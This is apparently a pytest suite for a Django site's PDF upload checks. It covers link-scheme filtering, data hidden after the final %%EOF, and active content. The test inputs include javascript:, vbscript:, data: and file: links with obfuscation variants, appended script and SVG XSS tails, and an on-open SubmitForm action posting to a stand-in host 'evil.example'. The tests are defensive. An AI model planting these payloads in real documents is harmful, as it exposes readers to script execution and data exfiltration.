"""Stricter PDF checks: links only to web pages and email addresses, nothing hidden after the end.

Every PDF here is a real one made with pypdf, uploaded through the admin's document form.
"""

import io

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from materials.models import MaterialDocument
from tests.helpers import pdf_bytes, stored_files

pytestmark = pytest.mark.django_db


def pdf_with_links(*urls: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=300, height=300)
    for i, url in enumerate(urls):
        writer.add_annotation(0, Link(rect=(10, 10 + 30 * i, 200, 30 + 30 * i), url=url))
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_outline_link(url: str) -> bytes:
    """A bookmark (not an annotation) whose action opens ``url``."""
    writer = PdfWriter()
    writer.add_blank_page(width=300, height=300)
    item = writer.add_outline_item(title="Read more", page_number=0).get_object()
    item[NameObject("/A")] = DictionaryObject(
        {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject(url)}
    )
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def updated_incrementally(data: bytes) -> bytes:
    """The same PDF saved again with an appended update, as editors' tools often do (two %%EOF)."""
    writer = PdfWriter(PdfReader(io.BytesIO(data)), incremental=True)
    writer.add_annotation(0, Link(rect=(10, 200, 200, 220), url="https://www.example.org/more"))
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def assert_accepted(response):
    assert response.status_code == 302, response.content.decode()[:2000]
    assert MaterialDocument.objects.count() == 1


def assert_refused(response, message, settings):
    assert response.status_code == 200
    assert message in response.content.decode()
    assert MaterialDocument.objects.count() == 0
    assert stored_files(settings) == []


def test_a_clean_pdf_with_ordinary_links_is_accepted(upload):
    data = pdf_with_links("https://www.example.org/eating", "http://example.org/", "mailto:help@example.org")
    assert_accepted(upload("with-links.pdf", data))


def test_a_pdf_saved_with_an_incremental_update_is_accepted(upload):
    data = updated_incrementally(pdf_with_links("https://www.example.org/"))
    assert data.count(b"%%EOF") == 2
    assert_accepted(upload("updated.pdf", data))


@pytest.mark.parametrize("ending", [b"", b"\r\n", b"\n\n", b"\x00\x00\x00\x00", b"   \n"])
def test_line_ends_and_padding_after_the_end_are_fine(upload, ending):
    assert_accepted(upload("leaflet.pdf", pdf_bytes() + ending))


@pytest.mark.parametrize(
    "url",
    [
        "javascript:app.alert(1)",
        "JavaScript:app.alert(1)",
        " javascript:app.alert(1)",
        "java\tscript:app.alert(1)",
        "\x01javascript:app.alert(1)",
        "file:///C:/Windows/System32/calc.exe",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
    ],
)
def test_links_to_anything_but_web_pages_and_email_are_refused(upload, settings, url):
    data = pdf_with_links("https://www.example.org/", url)
    assert_refused(upload("with-links.pdf", data), "does not go to a web page or an email address", settings)


def test_the_message_names_what_the_bad_link_starts_with(upload, settings):
    response = upload("with-links.pdf", pdf_with_links("javascript:app.alert(1)"))
    assert_refused(response, "it starts with &quot;javascript:&quot;", settings)


def test_a_bookmark_with_a_javascript_link_is_refused_too(upload, settings):
    data = pdf_with_outline_link("javascript:app.alert(1)")
    assert_refused(upload("bookmarks.pdf", data), "does not go to a web page", settings)


def test_a_bookmark_to_a_web_page_is_fine(upload):
    assert_accepted(upload("bookmarks.pdf", pdf_with_outline_link("https://www.example.org/")))


@pytest.mark.parametrize(
    "tail",
    [
        b"<html><body><script>alert(document.domain)</script></body></html>",
        b"\n<script>alert(1)</script>\n",
        b"\r\n<svg onload=alert(1)>",
        b"\x00\x00PK\x03\x04",
    ],
)
def test_bytes_hidden_after_the_last_eof_are_refused(upload, settings, tail):
    assert_refused(upload("leaflet.pdf", pdf_bytes() + tail), "extra data hidden after its end", settings)


def test_a_submit_form_action_is_active_content(upload, settings):
    def submit_on_open(root):
        root[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject("/S"): NameObject("/SubmitForm"), NameObject("/F"): TextStringObject("https://evil.example")}
        )

    assert_refused(upload("form.pdf", pdf_bytes(change_root=submit_on_open)), "active content", settings)


def test_the_demo_files_still_pass():
    from advocacy.demo.builder import FILES_DIR
    from materials.upload_checks import check_upload

    files = sorted(FILES_DIR.glob("*.pdf"))
    assert files
    for path in files:
        assert check_upload(path.name, path.read_bytes()).page_count >= 1
